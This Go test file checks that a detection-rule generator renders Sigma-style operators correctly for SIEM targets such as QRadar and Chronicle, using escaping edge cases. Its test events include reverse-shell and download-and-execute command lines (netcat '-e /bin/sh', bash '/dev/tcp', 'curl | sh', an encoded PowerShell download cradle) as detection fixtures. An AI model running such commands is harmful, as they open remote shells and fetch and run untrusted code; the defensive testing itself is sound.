package testrun_test

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/detgen/detgen/mappings"
)

// Issue 8: every operator, per target, on events that must and must not
// match, with hostile values. Each case is a small spec (the shipped
// rule's metadata, one selection block, a condition), compiled and
// generated for every target; the reference and every artifact that a
// target produces must reach the expected verdict, and a target that
// cannot express the construct must refuse it naming rule, target,
// construct and spec line:col.

// Hostile values: LIKE wildcards, Sigma wildcards, quotes of every
// target, a backslash before a regex class letter, regex metacharacters.
const (
	hostile   = "Adm'in \"q\"\t50%_*?\\d.^$|()[]{}+ /x/" // equals (with a tab)
	hostileIn = `50%_off*?\d.'"`                         // contains, startswith, endswith
)

// misses are values a wrong rendering would wrongly match: each hostile
// character replaced by what it would match as a LIKE, Sigma or regex
// wildcard, or a backslash escape dropped.
func misses(v string) []string {
	var out []string
	for _, r := range []struct{ old, new string }{
		{"%", "XYZ"}, {"_", "X"}, {"*", "XY"}, {"?", "X"}, {`\d`, "5"}, {`\d`, "d"},
		{".", "X"}, {"'", ""}, {`"`, ""}, {`\`, `\\`}, {"+", "++"}, {"|", ""}, {" ", "\n"}, {"\t", " "}, {"/", `\/`},
	} {
		if strings.Contains(v, r.old) {
			out = append(out, strings.Replace(v, r.old, r.new, 1))
		}
	}
	return out
}

// evs builds one event per value of field.
func evs(field string, values ...string) []ev {
	out := make([]ev, len(values))
	for i, v := range values {
		out[i] = ev{field: v}
	}
	return out
}

// wrap surrounds each value: what contains must find.
func wrap(pre, post string, values ...string) []string {
	out := make([]string, len(values))
	for i, v := range values {
		out[i] = pre + v + post
	}
	return out
}

// q is v as a single-quoted YAML scalar.
func q(v string) string { return "'" + strings.ReplaceAll(v, "'", "''") + "'" }

// sel is a one-test selection named sel.
func sel(key string, values ...string) string {
	if len(values) == 1 {
		return "sel:\n  " + key + ": " + q(values[0])
	}
	s := "sel:\n  " + key + ":"
	for _, v := range values {
		s += "\n    - " + q(v)
	}
	return s
}

func cmd(args ...string) ev { return ev{"command": args} }

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func utf16le(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

func cat(lists ...[]ev) []ev {
	var out []ev
	for _, l := range lists {
		out = append(out, l...)
	}
	return out
}

var operatorCases = []opCase{
	// equals
	{
		name:      "equals uncased",
		selection: sel("username", hostile),
		condition: "sel",
		match:     evs("username", hostile, strings.ToUpper(hostile)),
		noMatch: cat(evs("username", misses(hostile)...), evs("username", hostile+"x", "x"+hostile, "alice", hostile+" "),
			[]ev{{"username": absent}, {"username": null}, {"user_agent": hostile}}),
	},
	{
		name:      "equals cased",
		selection: sel("username|cased", hostile),
		condition: "sel",
		match:     evs("username", hostile),
		noMatch:   cat(evs("username", strings.ToUpper(hostile), strings.ToLower(hostile)), evs("username", misses(hostile)...)),
	},
	{
		name:      "equals on a field QRadar reads from the payload",
		selection: sel("image", hostile),
		condition: "sel",
		match:     cat(evs("image", hostile, strings.ToUpper(hostile)), []ev{{"image": []string{"nginx", hostile}}}),
		noMatch: cat(evs("image", misses(hostile)...), evs("image", hostile+"x", "x"+hostile),
			[]ev{{"image": absent}, {"command": []string{hostile}}, {"user_agent": hostile}}),
	},
	{
		name:      "equals list of values",
		selection: sel("username", `x%y`, `p_q`, `r*s?`, `t\u`, `a'b"c`),
		condition: "sel",
		match:     evs("username", `x%y`, `P_Q`, `r*s?`, `t\u`, `A'B"C`),
		noMatch:   evs("username", `xAy`, `pAq`, `rABsC`, `rs`, `t\\u`, `tu`, `ab"c`, `x%y p_q`),
	},
	{
		name:      "equals uncased non-ASCII",
		selection: sel("username", "Ünïcödé-Ω"),
		condition: "sel",
		match:     evs("username", "Ünïcödé-Ω", "ÜNÏCÖDÉ-Ω", "ünïcödé-ω"),
		noMatch:   evs("username", "Unicode-Ω", "Ünïcödé-"),
	},
	{
		name:      "equals bool true",
		selection: "sel:\n  privileged: true",
		condition: "sel",
		match:     []ev{{"privileged": true}},
		noMatch:   []ev{{"privileged": false}, {"privileged": absent}, {"host_network": true}},
	},

	{
		name:      "equals bool false",
		selection: "sel:\n  host_network: false",
		condition: "sel",
		match:     []ev{{"host_network": false}},
		noMatch:   []ev{{"host_network": true}, {"host_network": absent}},
		// The parser extension writes the label only when true.
		refuse: map[string]string{"chronicle": "false cannot be told from missing"},
		at:     "host_network: false",
	},

	// contains
	{
		name:      "contains uncased",
		selection: sel("username|contains", hostileIn),
		condition: "sel",
		match:     evs("username", wrap("pre ", " post", hostileIn, strings.ToUpper(hostileIn))...),
		noMatch:   cat(evs("username", wrap("pre ", " post", misses(hostileIn)...)...), []ev{{"username": absent}}),
	},
	{
		name:      "contains cased",
		selection: sel("username|cased|contains", hostileIn),
		condition: "sel",
		match:     evs("username", wrap("pre ", " post", hostileIn)...),
		noMatch:   evs("username", wrap("pre ", " post", strings.ToUpper(hostileIn))...),
	},
	{
		name:      "contains on a list field QRadar reads from the payload",
		selection: sel("command|contains", hostileIn, `a"b\c`),
		condition: "sel",
		match:     []ev{cmd("sh", "-c", "x"+hostileIn+"y"), cmd(`A"B\C`)},
		noMatch:   []ev{cmd(wrap("x", "y", misses(hostileIn)...)...), cmd(`a"b\\c`, `ab\c`), {"command": absent}},
	},

	// argv (command) is matched per element: a value holding a space
	// matches inside one element only, never across two (docs/spec.md).
	{
		name:      "equals one argv element",
		selection: sel("command", "-e", `/bin/s"h`),
		condition: "sel",
		match:     []ev{cmd("nc", "-e", "x"), cmd("x", `/BIN/S"H`), cmd("-E")},
		noMatch:   []ev{cmd("nc -e x"), cmd("x-e"), cmd("-ex"), cmd(`/bin/s"hx`), {"command": absent, "user_agent": "-e"}},
	},
	{
		name:      "startswith and endswith one argv element",
		selection: "sel_s:\n  command|startswith: 'ba%'\nsel_e:\n  command|endswith: '| sh'",
		condition: "sel_s or sel_e",
		match:     []ev{cmd("x", "ba%sh"), cmd("curl x | sh"), cmd("y", "BA%", "z")},
		noMatch:   []ev{cmd("xba%sh"), cmd("curl x | shasum"), cmd("| sh x"), cmd("ba", "%sh"), {"command": absent, "image": "ba%"}},
	},
	{
		name:      "contains never spans two argv elements",
		selection: sel("command|contains", "-e /bin/sh"),
		condition: "sel",
		match:     []ev{cmd("sh", "-c", "nc -e /bin/sh 10.0.0.1")},
		noMatch:   []ev{cmd("nc", "-e", "/bin/sh"), cmd("nc -e", "/bin/sh"), {"command": absent, "user_agent": "nc -e /bin/sh"}},
	},
	{
		name:      "all values, each in some argv element",
		selection: sel("command|all", "-e", "/bin/sh"),
		condition: "sel",
		match:     []ev{cmd("nc", "-e", "/bin/sh", "h", "1"), cmd("/bin/sh", "-e")},
		noMatch:   []ev{cmd("nc", "-e", "/bin/bash"), cmd("nc -e /bin/sh"), {"command": absent, "user_agent": "-e /bin/sh"}},
		// Sigma ANDs the values of a map under one field name; command
		// has twelve (containers and init containers, command and args).
		refuse: map[string]string{"sigma": "Sigma field names"},
		at:     "command|all",
	},
	{
		name:      "contains on a scalar QRadar binds to its key in the payload",
		selection: sel("image|contains", "ncat"),
		condition: "sel",
		match:     []ev{{"image": "registry.local/ncat:7"}, {"image": "NCAT"}},
		noMatch:   []ev{{"image": "debian", "user_agent": "ncat/7.9", "command": []string{"ncat"}}, {"image": absent, "namespace": "ncat"}},
	},

	{
		name:      "contains all",
		selection: sel("username|contains|all", `a%`, `b_`, `c*`),
		condition: "sel",
		match:     evs("username", "xa%yb_zc*", "C*B_A%"),
		noMatch:   evs("username", "a%b_", "aXb_c*", "a%bXc*", "a%b_cX"),
	},

	// startswith, endswith
	{
		name:      "startswith",
		selection: sel("username|startswith", hostileIn),
		condition: "sel",
		match:     evs("username", hostileIn, hostileIn+"tail", strings.ToUpper(hostileIn)),
		noMatch:   cat(evs("username", "x"+hostileIn, " "+hostileIn, "\n"+hostileIn), evs("username", wrap("", "tail", misses(hostileIn)...)...)),
	},
	{
		name:      "startswith cased on a field QRadar reads from the payload",
		selection: sel("host_path|cased|startswith", `/va%r_/`),
		condition: "sel",
		match:     evs("host_path", `/va%r_/`, `/va%r_/x`),
		noMatch:   evs("host_path", `/VA%R_/x`, `/vaXr_/`, `/va%rX/`, `x/va%r_/`),
	},
	{
		name:      "endswith",
		selection: sel("username|endswith", hostileIn),
		condition: "sel",
		match:     evs("username", hostileIn, "head"+hostileIn, strings.ToUpper(hostileIn)),
		noMatch:   cat(evs("username", hostileIn+"x", hostileIn+"\n"), evs("username", wrap("head", "", misses(hostileIn)...)...)),
	},
	{
		name:      "startswith and endswith on a field of several values",
		selection: "start:\n  image|startswith: 'reg.example/a*'\nend:\n  image|endswith: ':v1?'",
		condition: "start and end",
		match:     []ev{{"image": []string{"nginx", "reg.example/a*b:v1?"}}, {"image": []string{"reg.example/a*x:v0", "busybox:v1?"}}},
		noMatch:   []ev{{"image": []string{"nginx", "reg.example/aXb:v1?"}}, {"image": []string{"xreg.example/a*b:v1?x"}}},
	},
	{
		name:      "endswith on a payload-only field, bound to its key",
		selection: sel("image|endswith", ":latest"),
		condition: "sel",
		match:     evs("image", "alpine:latest"),
		noMatch:   cat(evs("image", "alpine:latest2"), []ev{{"image": "alpine", "user_agent": "x:latest"}}),
	},

	// re and its flags
	{
		name:      "re",
		selection: sel("username|re", `^a/b"c'd\\e\.f[0-9]+$`),
		condition: "sel",
		match:     evs("username", `a/b"c'd\e.f42`),
		noMatch:   evs("username", `a/b"c'd\eXf42`, `A/B"C'D\E.F42`, `xa/b"c'd\e.f42`, `a/b"c'd\e.f42x`, `a/b"c'd\\e.f42`, "a/b\"c'd\\e.f4\n2"),
	},
	{
		name:      "re i",
		selection: sel("username|re|i", `^adm[0-9]+'$`),
		condition: "sel",
		match:     evs("username", `ADM42'`, `adm1'`),
		noMatch:   evs("username", `adm'`, `xadm1'`, `adm1`),
	},
	{
		name:      "re without m",
		selection: sel("username|re", `^root$`),
		condition: "sel",
		match:     evs("username", "root"),
		noMatch:   evs("username", "x\nroot\ny", "root\n", "Root"),
	},
	{
		name:      "re m",
		selection: sel("username|re|m", `^root$`),
		condition: "sel",
		match:     evs("username", "x\nroot\ny", "root"),
		noMatch:   evs("username", "x\nroots\ny", "x root"),
	},
	{
		name:      "re without s",
		selection: sel("username|re", `a.b`),
		condition: "sel",
		match:     evs("username", "axb"),
		noMatch:   evs("username", "a\nb", "ab"),
	},
	{
		name:      "re s",
		selection: sel("username|re|s", `a.b`),
		condition: "sel",
		match:     evs("username", "a\nb", "axb"),
		noMatch:   evs("username", "ab"),
	},
	{
		name:      "re i m s",
		selection: sel("username|re|i|m|s", `^ADM.X$`),
		condition: "sel",
		match:     evs("username", "q\nadm\nx", "admYx"),
		noMatch:   evs("username", "q\nadm\nxz", "adm\n\nx"),
	},

	// cidr
	{
		name:      "cidr IPv4 and IPv6",
		selection: sel("source_ip|cidr", "10.0.0.0/8", "2001:db8::/32"),
		condition: "sel",
		// An IPv4-mapped IPv6 address (::ffff:10.9.9.9) is left out: the
		// reference and QRadar's INCIDR compare it as IPv4, and whether
		// SecOps does is not documented (VERIFY).
		match: []ev{{"source_ip": []string{"10.1.2.3"}}, {"source_ip": []string{"2001:db8::1"}}},
		noMatch: []ev{{"source_ip": []string{"11.0.0.1"}}, {"source_ip": []string{"2001:db9::1"}}, {"source_ip": []string{"fe80::1"}},
			{"source_ip": []string{"10.0.0.0/8"}}, {"source_ip": []string{"not-an-ip"}}, {"source_ip": absent}},
		at: "source_ip|cidr",
	},

	// numeric comparisons
	{
		name:      "gt",
		selection: "sel:\n  response_code|gt: 399",
		condition: "sel",
		match:     []ev{{"response_code": 403}, {"response_code": 400}},
		noMatch:   []ev{{"response_code": 399}, {"response_code": 201}, {"response_code": absent}},
		refuse:    map[string]string{"qradar": "response_code", "chronicle": "response_code"},
		at:        "response_code|gt",
	},
	{
		name:      "gte",
		selection: "sel:\n  response_code|gte: 400",
		condition: "sel",
		match:     []ev{{"response_code": 400}, {"response_code": 500}},
		noMatch:   []ev{{"response_code": 399}, {"response_code": absent}},
		refuse:    map[string]string{"qradar": "response_code", "chronicle": "response_code"},
		at:        "response_code|gte",
	},
	{
		name:      "lt",
		selection: "sel:\n  response_code|lt: 300",
		condition: "sel",
		match:     []ev{{"response_code": 299}, {"response_code": 0}},
		noMatch:   []ev{{"response_code": 300}, {"response_code": 404}, {"response_code": absent}},
		refuse:    map[string]string{"qradar": "response_code", "chronicle": "response_code"},
		at:        "response_code|lt",
	},
	{
		name:      "lte",
		selection: "sel:\n  response_code|lte: 300",
		condition: "sel",
		match:     []ev{{"response_code": 300}, {"response_code": 201}},
		noMatch:   []ev{{"response_code": 301}, {"response_code": absent}},
		refuse:    map[string]string{"qradar": "response_code", "chronicle": "response_code"},
		at:        "response_code|lte",
	},

	// exists, null, empty
	{
		name:      "exists true",
		selection: "sel:\n  username|exists: true",
		condition: "sel",
		match:     evs("username", "alice", hostile),
		noMatch:   []ev{{"username": absent}, {"username": null}},
	},
	{
		name:      "exists false",
		selection: "sel:\n  username|exists: false",
		condition: "sel",
		match:     []ev{{"username": absent}, {"username": null}},
		noMatch:   evs("username", "alice", "null"),
	},
	{
		name:      "null",
		selection: "sel:\n  namespace: null",
		condition: "sel",
		match:     []ev{{"namespace": absent}, {"namespace": null}},
		noMatch:   evs("namespace", "default", "null"),
	},
	{
		name:      "empty",
		selection: "sel:\n  namespace: ''",
		condition: "sel",
		match:     evs("namespace", ""),
		noMatch:   append(evs("namespace", "default", " ", "''"), ev{"namespace": absent}),
		refuse:    map[string]string{"chronicle": "empty"},
		at:        "namespace: ''",
	},

	// fieldref
	{
		name:      "fieldref equals",
		selection: "sel:\n  username|fieldref: namespace",
		condition: "sel",
		match:     []ev{{"username": hostile, "namespace": hostile}, {"username": strings.ToUpper(hostile), "namespace": hostile}},
		noMatch: []ev{{"username": hostile + "x", "namespace": hostile}, {"username": "x", "namespace": absent},
			{"username": absent, "namespace": "default"}, {"username": absent, "namespace": absent}},
	},
	{
		name:      "fieldref cased",
		selection: "sel:\n  username|cased|fieldref: namespace",
		condition: "sel",
		match:     []ev{{"username": hostile, "namespace": hostile}},
		noMatch:   []ev{{"username": strings.ToUpper(hostile), "namespace": hostile}},
	},
	{
		name:      "fieldref contains",
		selection: "sel:\n  username|fieldref|contains: namespace",
		condition: "sel",
		match:     []ev{{"username": "x" + hostile + "y", "namespace": hostile}, {"username": "X" + strings.ToUpper(hostile), "namespace": hostile}},
		noMatch:   []ev{{"username": "x" + hostile, "namespace": hostile + "y"}, {"username": "x", "namespace": absent}},
		refuse:    map[string]string{"qradar": "fieldref with contains"},
		at:        "username|fieldref|contains",
	},
	{
		name:      "fieldref startswith",
		selection: "sel:\n  username|fieldref|startswith: namespace",
		condition: "sel",
		match:     []ev{{"username": hostile + "y", "namespace": hostile}},
		noMatch:   []ev{{"username": "x" + hostile, "namespace": hostile}},
		refuse:    map[string]string{"qradar": "fieldref with startswith"},
		at:        "username|fieldref|startswith",
	},
	{
		name:      "fieldref endswith",
		selection: "sel:\n  username|fieldref|endswith: namespace",
		condition: "sel",
		match:     []ev{{"username": "x" + hostile, "namespace": hostile}},
		noMatch:   []ev{{"username": hostile + "y", "namespace": hostile}},
		refuse:    map[string]string{"qradar": "fieldref with endswith"},
		at:        "username|fieldref|endswith",
	},

	// keywords
	{
		name:      "keyword",
		selection: "kw:\n  - " + q(hostileIn) + "\n  - 'a<b>&c'",
		condition: "kw",
		match:     []ev{{"user_agent": "x" + hostileIn + "y"}, {"image": strings.ToUpper(hostileIn)}, {"namespace": "a<b>&c"}},
		noMatch:   cat(evs("user_agent", misses(hostileIn)...), evs("user_agent", "a<b>c", "a&lt;b&gt;&amp;c")),
		refuse:    map[string]string{"chronicle": "keyword search"},
		at:        "- " + q(hostileIn),
	},
	{
		name:      "keyword all",
		selection: "kw:\n  '|all':\n    - " + q(`50%`) + "\n    - " + q(`a_b`),
		condition: "kw",
		match:     []ev{{"user_agent": "50%", "image": "a_b"}},
		noMatch:   []ev{{"user_agent": "50%"}, {"user_agent": "50X", "image": "a_b"}, {"user_agent": "50%", "image": "aXb"}},
		refuse:    map[string]string{"chronicle": "keyword search"},
		at:        "- " + q(`50%`),
	},

	// not, N of
	{
		name:      "not",
		selection: sel("username|startswith", `sys%_`) + "\n" + "pod:\n  image|contains: 'x*y'",
		condition: "pod and not sel",
		match:     []ev{{"image": "x*y", "username": "system"}, {"image": "x*y", "username": absent}, {"image": "x*y", "username": "sysXX"}},
		noMatch:   []ev{{"image": "x*y", "username": "sys%_x"}, {"image": "xzy", "username": "alice"}},
	},
	{
		name:      "not alone",
		selection: sel("image|contains", `x*y`),
		condition: "not sel",
		match:     []ev{{"image": "xzy"}, {"image": absent}},
		noMatch:   []ev{{"image": "x*y"}, {"image": "X*Y"}},
	},
	{
		name: "N of",
		selection: "sel_a:\n  username|contains: 'a%1'\n" +
			"sel_b:\n  image|contains: 'b_2'\n" +
			"sel_c:\n  command|contains: 'c*3'",
		condition: "2 of sel_*",
		match: []ev{{"username": "a%1", "image": "b_2"}, {"username": "a%1", "command": []string{"c*3"}},
			{"image": "b_2", "command": []string{"c*3"}}, {"username": "a%1", "image": "b_2", "command": []string{"c*3"}}},
		noMatch: []ev{{"username": "a%1"}, {"image": "b_2"}, {"username": "aX1", "image": "bX2", "command": []string{"cX3"}},
			{"username": "a%1", "image": "bX2", "command": []string{"cXX3"}}},
	},

	{
		// An OR and an "N of" inside the top-level AND must keep their
		// grouping in every target (YARA-L binds and tighter than or).
		name: "or and N of under and",
		selection: "base:\n  verb|cased: create\n" +
			"alt:\n  - username|contains: 'a%1'\n  - namespace|endswith: '_z'\n" +
			"sel_a:\n  username|contains: 'a%1'\n" +
			"sel_b:\n  image|contains: 'b_2'\n" +
			"sel_c:\n  command|contains: 'c*3'",
		condition: "base and alt and 2 of sel_*",
		match: []ev{{"verb": "create", "username": "a%1", "image": "b_2"},
			{"verb": "create", "namespace": "x_z", "image": "b_2", "command": []string{"c*3"}}},
		noMatch: []ev{{"verb": "get", "username": "a%1", "image": "b_2"},
			{"verb": "get", "namespace": "x_z", "image": "b_2", "command": []string{"c*3"}},
			{"verb": "create", "username": "a%1"},
			{"verb": "create", "namespace": "x_z", "image": "b_2"}},
	},
	{
		name:      "all of and any of",
		selection: sel("username|startswith", `a'`) + "\n" + "sel_2:\n  namespace|endswith: '_z'\n" + "other:\n  image|contains: '%'",
		condition: "all of sel* and any of other",
		match:     []ev{{"username": "a'b", "namespace": "x_z", "image": "100%"}},
		noMatch:   []ev{{"username": "a'b", "namespace": "xz", "image": "100%"}, {"username": "a'b", "namespace": "x_z"}},
	},

	// value transformations
	{
		name:      "base64",
		selection: sel("command|base64|contains", `curl -s http://x/?a=1&b=2|sh`),
		condition: "sel",
		// Like every uncased value, the encoded text is compared
		// case-insensitively (as Sigma engines do): lower case matches.
		match: []ev{cmd("sh", "-c", "echo "+b64(`curl -s http://x/?a=1&b=2|sh`)+" | base64 -d | sh"),
			cmd(strings.ToLower(b64(`curl -s http://x/?a=1&b=2|sh`)))},
		noMatch: []ev{cmd("sh", "-c", "echo "+b64(`curl -s http://x/?a=1&b=2|bash`)+" | base64 -d | sh"),
			cmd("sh", "-c", `curl -s http://x/?a=1&b=2|sh`)},
	},
	{
		name:      "base64 cased",
		selection: sel("command|cased|base64|contains", `curl -s http://x/?a=1&b=2|sh`),
		condition: "sel",
		match:     []ev{cmd("echo " + b64(`curl -s http://x/?a=1&b=2|sh`))},
		noMatch:   []ev{cmd(strings.ToLower(b64(`curl -s http://x/?a=1&b=2|sh`))), cmd(strings.ToUpper(b64(`curl -s http://x/?a=1&b=2|sh`)))},
	},
	{
		name:      "base64offset",
		selection: sel("command|base64offset|contains", `/dev/tcp/`),
		condition: "sel",
		match: []ev{cmd("echo " + b64("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")), cmd("echo " + b64("x/dev/tcp/")),
			cmd("echo " + b64("xy/dev/tcp/z"))},
		noMatch: []ev{cmd("echo " + b64("bash -i >& /dev/udp/10.0.0.1/4444")), cmd("/dev/tcp/")},
	},
	{
		name:      "utf16le base64offset",
		selection: sel("command|utf16le|base64offset|contains", `IEX (New-Object Net.WebClient)`),
		condition: "sel",
		match: []ev{cmd("pwsh", "-enc", b64(utf16le(`IEX (New-Object Net.WebClient).DownloadString('http://x')`))),
			cmd("pwsh", "-enc", b64(utf16le(`$a=1;IEX (New-Object Net.WebClient)`))),
			cmd("pwsh", "-enc", b64(utf16le(`;IEX (New-Object Net.WebClient)`)))},
		noMatch: []ev{cmd("pwsh", "-enc", b64(`IEX (New-Object Net.WebClient)`)),
			cmd("pwsh", "-enc", b64(utf16le(`iex (New-Object Net.WebClient)`)))},
	},
	{
		name:      "windash",
		selection: sel("command|windash|contains", ` -enc `),
		condition: "sel",
		match:     []ev{cmd("pwsh -enc AA"), cmd("pwsh /enc AA"), cmd("pwsh \u2013enc AA"), cmd("pwsh \u2014enc AA"), cmd("pwsh \u2015enc AA")},
		noMatch:   []ev{cmd("pwsh enc AA"), cmd("pwsh _enc AA"), cmd("pwsh\n-enc AA"), cmd("pwsh -encoded AA")},
	},
}

func TestOperators(t *testing.T) {
	header := specHeader(t)
	ls, errs := mappings.LoadLogsource("kubernetes_audit")
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	seen := map[string]bool{}
	for _, c := range operatorCases {
		if seen[ruleName(c)] {
			t.Fatalf("case name %q is used twice", c.name)
		}
		seen[ruleName(c)] = true
		t.Run(c.name, func(t *testing.T) {
			if len(c.match) == 0 || len(c.noMatch) == 0 {
				t.Fatal("a case needs events that must and must not match")
			}
			runOpCase(t, header, ls, c)
		})
	}
}
